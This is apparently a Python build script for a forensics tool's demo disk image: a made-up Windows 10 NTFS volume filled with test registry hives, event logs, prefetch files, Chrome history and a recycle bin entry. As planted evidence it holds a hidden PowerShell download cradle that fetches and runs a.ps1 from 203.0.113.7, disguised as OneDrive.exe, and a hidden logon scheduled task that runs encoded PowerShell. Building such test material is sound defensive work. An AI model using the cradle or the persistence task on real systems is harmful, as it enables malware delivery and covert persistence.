"""Build resources/demo/demo-windows.img: the demo's made-up Windows 10 computer, a GPT disk with one NTFS volume.

Every file in it is a committed, licensed public test file (tests/data/artefacts/*/, see their SOURCE.md) put where
Windows keeps it, or is made here by a real tool: the Chrome History database by the sqlite3 CLI with Chrome 59's
schema (read with `.schema` from plaso's History-59.0.3071.86), the Recycle Bin's $R picture by Pillow's JPEG encoder.
Its browser download is the a.ps1 that demo-capture.pcap fetches from 203.0.113.7 (the same bytes, make_demo_capture's
A_PS1, at the same minute), and the program its OneDrive prefetch file says ran is flagged by the bundled YARA rules
(the download cradle of the demo disk's update.ps1). See README.md beside this script.

The disk is made by tests/images.py's build_gpt_ntfs (sfdisk, mkntfs -T, ntfscp, libntfs-3g). ntfscp stamps every
file with the clock, so the script runs itself under faketime's fixed clock: rebuilds are byte-for-byte identical on
the same tool versions.

Usage: .venv/bin/python resources/demo/make_demo_windows.py [OUT]
(needs sfdisk, mkntfs, ntfscp, libntfs-3g, sqlite3, xz, faketime, and Pillow and dpkt from the venv)
"""

from __future__ import annotations

import datetime as dt
import io
import lzma
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
sys.path.insert(0, str(REPO))

from make_demo_capture import A_PS1, DROPPER  # noqa: E402  (beside this script)

from tests import images  # noqa: E402

DATA = REPO / "tests" / "data" / "artefacts"
CLOCK = "2024-03-01 09:30:00"  # faketime's frozen clock (UTC): every NTFS time the tools write
USER = "alice"  # C:\Users\alice in SOFTWARE-made's ProfileList, SID ...-1001
SID = "S-1-5-21-1111111111-2222222222-3333333333-1001"
HOME = f"Users/{USER}"
#: Where ONEDRIVE.EXE-7E152375.pf says the program ran from (\USERS\TEST\APPDATA\LOCAL\MICROSOFT\ONEDRIVE\ONEDRIVE.EXE).
ONEDRIVE = "Users/test/AppData/Local/Microsoft/OneDrive/OneDrive.exe"
#: The demo disk's update.ps1 (make_demo.sh): a hidden PowerShell download cradle, flagged by rules/powershell.yar.
CRADLE = ("# Invoice viewer update\n"
          "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\n")
LAYOUT = (2048, 32 * 2048)  # start sector, sectors: a 32 MiB NTFS volume
DISK_SECTORS = 2048 + 32 * 2048 + 2048  # 34 MiB: the backup GPT after the volume

# The browser's story, in UTC: a search, the invoice portal, then a.ps1 at the minute the capture fetches it.
VISITS = [
    ("2024-02-28T21:18:40", "https://www.bing.com/search?q=invoice+portal+login", "invoice portal login - Search", 1),
    ("2024-02-28T21:19:58", "http://invoice-portal.example/", "Invoice portal", 0),
    ("2024-02-28T21:20:05", "http://invoice-portal.example/download/invoice_update.zip", "", 0),
    ("2024-02-28T23:39:31", f"http://{DROPPER}/a.ps1", "", 1),
]
DOWNLOAD_START, DOWNLOAD_END = "2024-02-28T23:39:31.400", "2024-02-28T23:39:31.520"
PAGE_LINK, PAGE_TYPED = 0x30000000, 0x30000001  # core.transition LINK / TYPED with CHAIN_START|CHAIN_END


def webkit(text: str) -> int:
    """Chrome's time: microseconds since 1601-01-01 UTC."""
    moment = dt.datetime.fromisoformat(text).replace(tzinfo=dt.timezone.utc)
    return (moment - dt.datetime(1601, 1, 1, tzinfo=dt.timezone.utc)) // dt.timedelta(microseconds=1)


def sql_text(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def chrome_history(work: Path) -> bytes:
    """A Chrome History database made by the sqlite3 CLI: Chrome 59's tables (plaso's History-59.0.3071.86, read by
    `.schema`), its meta version, a few visits and one completed download of a.ps1 into the user's Downloads."""
    reference = DATA / "browsers" / "History-59.0.3071.86"
    schema = subprocess.run(["sqlite3", "-readonly", str(reference), ".schema"], capture_output=True, text=True,
                            check=True).stdout
    # sqlite_sequence is SQLite's own table, made by the first AUTOINCREMENT table
    statements = [line for line in schema.splitlines() if not line.startswith("CREATE TABLE sqlite_sequence")]
    statements += ["INSERT INTO meta VALUES('version','36'),('last_compatible_version','16');"]
    for number, (when, url, title, typed) in enumerate(VISITS, 1):
        statements.append(f"INSERT INTO urls(id,url,title,visit_count,typed_count,last_visit_time,hidden) VALUES("
                          f"{number},{sql_text(url)},{sql_text(title)},1,{typed},{webkit(when)},0);")
        statements.append(f"INSERT INTO visits(id,url,visit_time,from_visit,transition,segment_id,visit_duration) "
                          f"VALUES({number},{number},{webkit(when)},{number - 1 if number > 1 else 0},"
                          f"{PAGE_TYPED if typed else PAGE_LINK},0,0);")
    target = f"C:\\Users\\{USER}\\Downloads\\a.ps1"
    url = f"http://{DROPPER}/a.ps1"
    statements.append(
        "INSERT INTO downloads(id,guid,current_path,target_path,start_time,received_bytes,total_bytes,state,"
        "danger_type,interrupt_reason,hash,end_time,opened,last_access_time,transient,referrer,site_url,tab_url,"
        "tab_referrer_url,http_method,by_ext_id,by_ext_name,etag,last_modified,mime_type,original_mime_type) VALUES("
        f"1,'6F1D2B3C-4A5E-4F60-8A7B-202402282339',{sql_text(target)},{sql_text(target)},{webkit(DOWNLOAD_START)},"
        f"{len(A_PS1)},{len(A_PS1)},1,0,0,X'',{webkit(DOWNLOAD_END)},0,0,0,'','',{sql_text(url)},'','GET','','','',"
        "'','text/plain','text/plain');")
    statements.append(f"INSERT INTO downloads_url_chains VALUES(1,0,{sql_text(url)});")
    database = work / "History"
    subprocess.run(["sqlite3", str(database)], input="BEGIN;\n" + "\n".join(statements) + "\nCOMMIT;\n", text=True,
                   check=True)
    return database.read_bytes()


def recycled_picture() -> bytes:
    """The $R file of $I103S5F.jpg: a JPEG made by Pillow (the $I records bunnies.jpg of 222,255 bytes; this picture
    only stands in for it and is smaller)."""
    from PIL import Image

    picture = Image.new("RGB", (160, 120))
    picture.putdata([(40 + x, 90 + y // 2, 200 - x // 2) for y in range(120) for x in range(160)])
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=85)
    return out.getvalue()


def hive(name: str) -> bytes:
    return lzma.decompress((DATA / "registry" / name).read_bytes())


def task_xml() -> bytes:
    """tests/analyzers/artefacts/test_tasks.py's made task (MITRE ATT&CK T1053.005's procedure), for this user,
    in UTF-16 with a byte order mark and CRLF line ends as Windows writes task files."""
    text = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2024-02-28T23:41:02.5210000Z</Date>
    <Author>DESKTOP-2KGM189\\{USER}</Author>
    <URI>\\OneDriveUpdater</URI>
  </RegistrationInfo>
  <Triggers>
    <LogonTrigger>
      <Enabled>true</Enabled>
      <UserId>DESKTOP-2KGM189\\{USER}</UserId>
    </LogonTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>{SID}</UserId>
      <LogonType>InteractiveToken</LogonType>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>true</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>powershell.exe</Command>
      <Arguments>-NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA</Arguments>
    </Exec>
  </Actions>
</Task>
"""
    return text.replace("\n", "\r\n").encode("utf-16")


def content(work: Path) -> images.FsContent:
    """Path on the volume → bytes, each from the committed test data or made above."""
    logs = "Windows/System32/winevt/Logs"
    recent = f"{HOME}/AppData/Roaming/Microsoft/Windows/Recent"
    files = {
        "Windows/System32/config/SYSTEM": hive("SYSTEM_WIN_10_1709.xz"),
        "Windows/System32/config/SOFTWARE": (DATA / "registry" / "SOFTWARE-made").read_bytes(),
        "Windows/System32/config/SAM": hive("SAM.xz"),
        "Windows/AppCompat/Programs/Amcache.hve": hive("win10-Amcache.hve.xz"),
        f"{HOME}/NTUSER.DAT": hive("NTUSER-WIN7.DAT.xz"),
        f"{HOME}/AppData/Local/Microsoft/Windows/UsrClass.dat": hive("UsrClass.dat.xz"),
        f"{logs}/Security.evtx": (DATA / "evtx" / "attack-NTLM2SelfRelay-security_4624_4688_1102.evtx").read_bytes(),
        f"{logs}/System.evtx": (DATA / "evtx" / "evtx-rs-system.evtx").read_bytes(),
        "Windows/System32/Tasks/OneDriveUpdater": task_xml(),
        "Windows/System32/Tasks/Microsoft/VisualStudio/VSIX Auto Update":
            (DATA / "tasks" / "VSIX Auto Update").read_bytes(),
        f"{recent}/example.lnk": (DATA / "lnk" / "example.lnk").read_bytes(),
        f"{recent}/NeroInfoTool.lnk": (DATA / "lnk" / "NeroInfoTool.lnk").read_bytes(),
        f"{recent}/AutomaticDestinations/1b4dd67f29cb1962.automaticDestinations-ms":
            (DATA / "lnk" / "1b4dd67f29cb1962.automaticDestinations-ms").read_bytes(),
        f"$Recycle.Bin/{SID}/$I103S5F.jpg": (DATA / "recycle" / "$I103S5F.jpg").read_bytes(),
        f"$Recycle.Bin/{SID}/$R103S5F.jpg": recycled_picture(),
        f"{HOME}/AppData/Local/Google/Chrome/User Data/Default/History": chrome_history(work),
        f"{HOME}/Downloads/a.ps1": A_PS1,
        ONEDRIVE: CRADLE.encode(),
    }
    for name in ("ONEDRIVE.EXE-7E152375.pf", "NOTEPAD.EXE-D8414F97.pf", "CMD.EXE-087B4001.pf", "PING.EXE-B29F6629.pf"):
        files[f"Windows/Prefetch/{name}"] = (DATA / "prefetch" / name).read_bytes()
    return images.FsContent(files=files)


def main(argv: list[str]) -> int:
    out = Path(argv[0]).resolve() if argv else HERE / "demo-windows.img"
    if os.environ.get("FAKETIME") != CLOCK:  # run again under a frozen clock, every tool it starts included
        if shutil.which("faketime") is None:
            print("faketime (Debian package faketime) is needed for a repeatable image", file=sys.stderr)
            return 2
        os.environ["TZ"] = "UTC"
        os.execvp("faketime", ["faketime", "-f", CLOCK, sys.executable, str(Path(__file__).resolve()), str(out)])
    missing = images.missing_tools()
    if missing:
        print(f"missing tools: {', '.join(missing)}", file=sys.stderr)
        return 2
    with tempfile.TemporaryDirectory() as temporary:
        work = Path(temporary)
        disk = images.build_gpt_ntfs(work, content(work), name="windows.img", layout=LAYOUT,
                                     disk_sectors=DISK_SECTORS, label="Windows")
        out.unlink(missing_ok=True)
        subprocess.run(["cp", "--sparse=always", str(disk), str(out)], check=True)
    print(f"wrote {out} ({out.stat().st_size} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
